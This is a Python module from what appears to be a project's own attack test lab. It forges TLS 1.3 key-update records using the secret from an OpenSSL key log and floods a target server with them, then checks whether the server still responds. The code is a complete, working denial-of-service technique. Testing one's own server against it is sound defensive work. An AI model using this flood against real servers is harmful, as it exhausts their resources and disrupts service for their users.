"""A flood of key updates: records of TLS 1.3 that cost the other side work and carry no data.

The `ssl` module has no call for it, so the records are made here, by the secret of the connection
that OpenSSL writes into a key log (RFC 8446, sections 4.6.3, 5.2, 7.2 and 7.3).
"""

from __future__ import annotations

import os
import socket
import tempfile
from contextlib import suppress
from pathlib import Path

from weir.access.signatures import load
from weir.protocol.client import messages as m
from weir.protocol.client.codec import encode_request
from weir.tls.records import SILENT_BYTES_MAX
from weir_lab.attack.strangers import Attack
from weir_lab.attack.targets import SECONDS, Target
from weir_lab.attack.wire import received

#: By cipher suite, the class of the cipher, the bytes of its key, and its hash.
_SUITES = {
    "TLS_AES_256_GCM_SHA384": ("AESGCM", 32, "SHA384"),
    "TLS_AES_128_GCM_SHA256": ("AESGCM", 16, "SHA256"),
    "TLS_CHACHA20_POLY1305_SHA256": ("ChaCha20Poly1305", 32, "SHA256"),
}
_IV_BYTES, _MAC_BYTES = 12, 16
_HANDSHAKE, _DATA = 0x16, 0x17
#: Message 24 of one byte: the other side is to change its key as well.
_UPDATE = bytes([24, 0, 0, 1, 1])
_TOGETHER = 100
#: So many times what may come without data.
_TIMES = 4
_SECRET = "CLIENT_TRAFFIC_SECRET_0"


class ClientRecords:
    """Makes the records that a client sends once its handshake is done, instead of OpenSSL."""

    def __init__(self, suite: str, secret: bytes) -> None:
        """Begin before the first record. `secret` is the first one of the client's traffic."""
        cipher, self._key_bytes, digest = _SUITES[suite]
        self._cipher = getattr(load("hazmat.primitives.ciphers.aead"), cipher)
        self._digest = getattr(load("hazmat.primitives.hashes"), digest)
        self._take(secret)

    def update(self) -> bytes:
        """Return a key update. What comes behind it has the next key."""
        record = self._sealed(_UPDATE, _HANDSHAKE)
        self._take(self._expanded("traffic upd", self._digest.digest_size))
        return record

    def data(self, content: bytes) -> bytes:
        """Return a record with data."""
        return self._sealed(content, _DATA)

    def _take(self, secret: bytes) -> None:
        self._secret, self._number = secret, 0
        self._aead = self._cipher(self._expanded("key", self._key_bytes))
        self._iv = int.from_bytes(self._expanded("iv", _IV_BYTES), "big")

    def _expanded(self, label: str, size: int) -> bytes:
        full = b"tls13 " + label.encode()
        info = size.to_bytes(2, "big") + bytes([len(full)]) + full + b"\0"
        expand = load("hazmat.primitives.kdf.hkdf").HKDFExpand(self._digest(), size, info)
        return bytes(expand.derive(self._secret))

    def _sealed(self, content: bytes, kind: int) -> bytes:
        size = len(content) + 1 + _MAC_BYTES
        header = bytes([_DATA, 3, 3]) + size.to_bytes(2, "big")
        nonce = (self._iv ^ self._number).to_bytes(_IV_BYTES, "big")
        self._number += 1
        return header + bytes(self._aead.encrypt(nonce, content + bytes([kind]), header))


def secret_in(log: Path) -> bytes:
    """Return the secret of the newest connection in a key log."""
    lines = [line.split() for line in log.read_text().splitlines()]
    return bytes.fromhex([words[2] for words in lines if words[:1] == [_SECRET]][-1])


def flood_with_key_updates(target: Target) -> bool:
    """Send nothing but key updates, and be listened to behind four times what may come so."""
    if not target.bundle:
        return False
    with tempfile.TemporaryDirectory(prefix="weir-attack-") as name, suppress(OSError):
        log = Path(name) / "keys"
        context = target.context()
        context.keylog_filename = str(log)
        with context.wrap_socket(target.plain(), server_hostname=target.host) as secure:
            suite = secure.cipher()
            assert suite is not None, "the handshake is done"
            records = ClientRecords(suite[0], secret_in(log))
            with socket.socket(fileno=os.dup(secure.fileno())) as below:
                below.settimeout(SECONDS)
                sent = 0
                while sent < _TIMES * SILENT_BYTES_MAX:
                    sent += below.send(b"".join(records.update() for _ in range(_TOGETHER)))
                below.sendall(records.data(b"".join(encode_request(m.Hello("x"), 1))))
            return received(secure) != b""
    return False


ATTACKS: dict[str, Attack] = {"flood with key updates": flood_with_key_updates}
